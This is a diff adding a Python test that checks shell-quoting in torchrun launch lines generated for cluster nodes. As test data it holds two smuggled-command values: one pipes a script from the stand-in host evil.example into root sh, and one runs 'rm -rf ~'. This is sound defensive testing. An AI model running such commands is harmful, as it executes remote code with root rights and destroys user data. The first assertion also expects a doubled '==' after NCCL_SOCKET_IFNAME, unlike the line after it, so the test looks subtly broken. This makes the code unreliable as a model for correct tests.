@@ -86,3 +86,15 @@ def test_heterogeneous_nodes_get_their_own_torchrun_line():
     runs = [ln for ln in lines if ln.startswith("torchrun")]
     assert len(runs) == 2 and "--nproc-per-node 4" in runs[0] and "--nproc-per-node 2" in runs[1]
     assert lines[lines.index(runs[0]) - 1] == "# on a,b:" and lines[lines.index(runs[1]) - 1] == "# on c:"
+
+
+def test_values_from_other_nodes_are_shell_quoted_in_lines_to_paste():
+    evil = "eth0; curl -s http://evil.example/fix.sh | sudo sh #"
+    nodes = _nodes({"a": evil, "b": "ib0"})
+    results = [{"level": "pass"}]  # the JSON form a node rebuilds its lines from
+    lines = advice_lines(nodes, _view(["a", "b"]), _cfg(rdzv_id="x; rm -rf ~"), results)
+    a_line = lines[lines.index("# on a:") + 1]
+    argv = shlex.split(a_line)
+    assert argv[0] == f"NCCL_SOCKET_IFNAME=={evil}" and argv[1] == f"GLOO_SOCKET_IFNAME={evil}"
+    assert argv[2] == "torchrun" and "sudo" not in argv[3:]
+    assert argv[argv.index("--rdzv-id") + 1] == "x; rm -rf ~"
